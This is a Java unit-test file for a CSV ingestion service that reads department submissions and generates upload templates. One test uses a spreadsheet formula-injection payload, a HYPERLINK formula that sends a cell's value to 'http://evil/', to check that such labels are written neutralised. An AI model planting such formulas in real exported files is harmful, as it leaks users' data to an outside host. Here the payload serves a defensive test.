package cn.chengxin.ingestion;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.Iterator;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.UUID;

import cn.chengxin.catalog.domain.Category;
import cn.chengxin.catalog.domain.Domain;
import cn.chengxin.catalog.domain.FieldDefinition;
import cn.chengxin.catalog.domain.ItemDefinition;
import cn.chengxin.catalog.domain.Nature;
import cn.chengxin.catalog.domain.Severity;
import cn.chengxin.catalog.domain.Sharing;
import cn.chengxin.catalog.domain.SubjectType;
import cn.chengxin.catalog.domain.UpdateCycle;
import cn.chengxin.ingestion.parsing.FileProblem;
import cn.chengxin.ingestion.parsing.FileProblemCode;
import cn.chengxin.ingestion.parsing.RowSource;
import cn.chengxin.ingestion.parsing.SourceRow;
import cn.chengxin.ingestion.persistence.JdbcBatches;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class FileSubmissionsTests {

    @Test
    void readsTheResponsiblePersonsOfARowFromTheirColumnsPairingSeveralInOrder() {
        IncomingRecord row = FileSubmissions.toRecord(Map.of("法定代表人证件号码", "A", "法定代表人姓名", "甲",
                "responsiblePersonIds", "B；C", "responsiblePersonNames", "乙;丙"));

        assertThat(row.responsiblePersons()).containsExactly(
                new ResponsiblePersonSent("LEGAL_REPRESENTATIVE", "A", "甲", "legalRepresentativeId",
                        "legalRepresentativeName"),
                new ResponsiblePersonSent("DIRECTLY_RESPONSIBLE", "B", "乙", "responsiblePersonIds[0]",
                        "responsiblePersonNames[0]"),
                new ResponsiblePersonSent("DIRECTLY_RESPONSIBLE", "C", "丙", "responsiblePersonIds[1]",
                        "responsiblePersonNames[1]"));
        assertThat(row.fields()).isEmpty();
    }

    /**
     * A catalogue administrator types the labels; the department opens the template in a spreadsheet: a label that
     * starts a formula is written with a leading apostrophe (shown, never run), one with a comma is quoted.
     */
    @Test
    void writesTheTemplateSoThatNoLabelRunsAsAFormula() {
        ItemDefinition item = item(List.of(FieldDefinition.text("link", "=HYPERLINK(\"http://evil/?\"&C2,\"点击\")", true),
                FieldDefinition.text("fine", "-罚款", false), FieldDefinition.text("who", "@承办人", false),
                FieldDefinition.text("sum", "+合计", false), FieldDefinition.text("wide", "＝全角", false),
                FieldDefinition.text("facts", "事实,经过", false)));

        String template = new String(FileSubmissions.templateCsv(item), StandardCharsets.UTF_8);

        assertThat(template).startsWith("\uFEFF事项代码,证件类型,").endsWith(
                ",撤销原因,\"'=HYPERLINK(\"\"http://evil/?\"\"&C2,\"\"点击\"\")\",'-罚款,'@承办人,'+合计,'＝全角,"
                        + "\"事实,经过\"\r\n");
    }

    /** A template edited as text keeps the apostrophe before such a label: the column still names its field. */
    @Test
    void readsATemplatesNeutralisedLabelAsTheLabel() {
        IncomingRecord row = FileSubmissions.toRecord(Map.of("事项代码", "P_X", "'-罚款", "5", "'don't", "x"));

        assertThat(row.fields()).containsOnly(Map.entry("-罚款", "5"), Map.entry("'don't", "x"));
    }

    private static ItemDefinition item(List<FieldDefinition> fields) {
        return new ItemDefinition("P_TEST_ITEM", "测试事项", SubjectType.PERSON, Nature.NEGATIVE,
                Category.ADMINISTRATIVE_PENALTY, Domain.GENERAL, fields, List.of("MARKET"), "某法第一条", Sharing.PUBLIC,
                Severity.GENERAL, null, null, null, true, true, true, UpdateCycle.DAILY, false, null);
    }

    @Test
    void handsOutEveryRowReadBeforeTheFileStopsBeingReadable() {
        Iterator<Submissions.Numbered> rows = FileSubmissions.rows(new BreaksAtLine(4));

        assertThat(rows.hasNext()).isTrue();
        assertThat(rows.next().line()).isEqualTo(2);
        assertThat(rows.next().line()).isEqualTo(3);
        assertThatThrownBy(rows::hasNext).isInstanceOf(FileProblem.class)
                .hasMessage("第 4 行：" + FileProblemCode.CSV_MALFORMED.message());
    }

    @Test
    void readsNothingBeforeItIsAsked() {
        BreaksAtLine source = new BreaksAtLine(2);

        Iterator<Submissions.Numbered> rows = FileSubmissions.rows(source);

        assertThat(source.reads).isZero();
        assertThatThrownBy(rows::next).isInstanceOf(FileProblem.class);
    }

    /**
     * Two first uploads under one key: the other's batch is stored between this one's look-up and its own insert. With
     * another file it is the conflict a later upload gets, not a second 202 for a file that is never run.
     */
    @Test
    void refusesAnotherFileWhoseKeyWasTakenSinceItLookedTheKeyUp(@TempDir Path dir) {
        JdbcBatches racing = new JdbcBatches(null) {
            private boolean taken;

            @Override
            public Optional<Stored> find(UUID id) {
                return taken ? Optional.of(new Stored(id, "COURT", "the other file's hash")) : Optional.empty();
            }

            @Override
            public boolean start(UUID id, String department, String by, String channel, String fileName, String hash,
                                 Integer totalRows, Instant at, BatchOrigin origin) {
                taken = true;
                return false;
            }
        };
        FileSubmissions files = new FileSubmissions(null, racing, dir, 1 << 20, 1_000);
        FileSubmissions.Upload upload = files.save(new ByteArrayInputStream(
                "itemCode,subjectNumber\nP_COURT_DEFAULTER,1\n".getBytes(StandardCharsets.UTF_8)), "b.csv");

        assertThatThrownBy(() -> files.start(UUID.randomUUID(), "COURT", upload))
                .isInstanceOfSatisfying(IngestionProblem.class, p -> assertThat(p.code()).isEqualTo("BATCH_CONFLICT"));
        assertThat(upload.file()).doesNotExist();
    }

    @Test
    void showsHowMuchOfARunningFileIsReadButNeverAllOfItBeforeItsEnd() {
        assertThat(FileSubmissions.percent(0, 1_000)).isZero();
        assertThat(FileSubmissions.percent(400, 1_000)).isEqualTo(40);
        assertThat(FileSubmissions.percent(1_000, 1_000)).as("read, not yet stored").isEqualTo(99);
    }

    /** Data rows from line 2; the record starting at {@code brokenLine} has an unterminated quote. */
    private static final class BreaksAtLine implements RowSource {

        private final long brokenLine;
        private long line = 1;
        private int reads;

        BreaksAtLine(long brokenLine) {
            this.brokenLine = brokenLine;
        }

        @Override
        public Optional<SourceRow> next() {
            reads++;
            line++;
            if (line == brokenLine) {
                throw new FileProblem(FileProblemCode.CSV_MALFORMED, line);
            }
            return Optional.of(new SourceRow(line, Map.of("部门记录编号", "R-" + line)));
        }

        @Override
        public long bytesRead() {
            return 0;
        }

        @Override
        public void close() {
        }
    }
}
